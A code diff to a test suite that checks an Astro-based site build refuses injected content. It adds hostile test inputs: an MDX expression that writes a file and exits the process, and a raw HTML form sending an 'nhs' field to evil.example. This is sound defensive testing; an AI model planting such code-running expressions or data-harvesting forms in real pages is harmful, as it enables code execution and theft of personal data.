@@ -8,7 +8,7 @@
  *   page, so the build refuses it even when the check is skipped;
  * - by the real build command over the whole corpus at once: exit 1, every case reported as
  *   content, never "a fault in the site builder", and no attempt's code ever runs;
- * - by a real Astro build with the content check left out entirely.
+ * - by a real Astro build with the content check left out entirely (Markdown and MDX).
  */
 import { execFile } from 'node:child_process';
 import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
@@ -294,11 +294,12 @@ describe('the injection corpus', () => {
     expect(existsSync(path.join(out, slugOf(0)))).toBe(false);
   });
 
-  it('an Astro build with the content check left out still refuses MDX code, and none of it runs', async () => {
+  it('an Astro build with the content check left out still refuses MDX code and raw HTML, and none of the code runs', async () => {
     const content = path.join(work, 'unchecked', 'content');
     const dir = path.join(content, 'harbourside');
     cpSync(path.join(repoRoot, 'content', 'harbourside'), dir, { recursive: true });
     mdx(`{process.getBuiltinModule("node:fs").writeFileSync(${JSON.stringify(canary)}, "ran")}\n\n{process.exit(3)}`)(dir);
+    md('<form action="https://evil.example/"><input name="nhs"></form>')(dir);
     const script = path.join(repoRoot, 'tests', 'support', 'render-without-check.ts');
     let code = 0;
     let output = '';
@@ -312,6 +313,8 @@ describe('the injection corpus', () => {
     }
     expect(code, output).toBe(1);
     expect(output).toContain('refused: content/harbourside/index.mdx (mdx-expression)');
+    expect(output).toContain('refused: content/harbourside/vision.md (unsafe-html)');
+    expect(output).not.toContain('built');
     expect(existsSync(canary)).toBe(false);
   });
 });
